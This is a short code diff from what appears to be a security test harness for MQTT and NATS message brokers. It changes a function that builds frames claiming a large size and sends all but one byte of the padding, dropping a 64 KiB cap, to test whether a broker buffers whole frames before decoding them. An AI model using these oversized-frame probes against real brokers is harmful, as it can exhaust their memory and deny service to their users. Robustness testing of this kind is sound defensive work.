@@ -85,12 +85,12 @@ def nats_device(host, port):
 
 
 def first_bytes(proto, claim):
-    """The start of what claims `claim` bytes: an MQTT CONNECT, or a NATS PUB before CONNECT,
-    sent up to one byte short of the claim, or 64 KiB, whichever is less."""
+    """What claims `claim` bytes, sent up to one byte short of it: an MQTT CONNECT (a broker
+    buffers the whole frame before it decodes it), or a NATS PUB before CONNECT."""
     if proto == "mqtt":
         body = mstr("MQTT") + bytes([4, 2]) + b"\x00\x3c" + mstr("attacker")
-        return b"\x10" + varint(claim) + body + b"\x00" * min(claim - len(body) - 1, 65536)
-    return f"PUB attack {claim}\r\n".encode() + b"x" * min(claim - 1, 65536)
+        return b"\x10" + varint(claim) + body + b"\x00" * (claim - len(body) - 1)
+    return f"PUB attack {claim}\r\n".encode() + b"x" * (claim - 1)
 
 
 @scenario
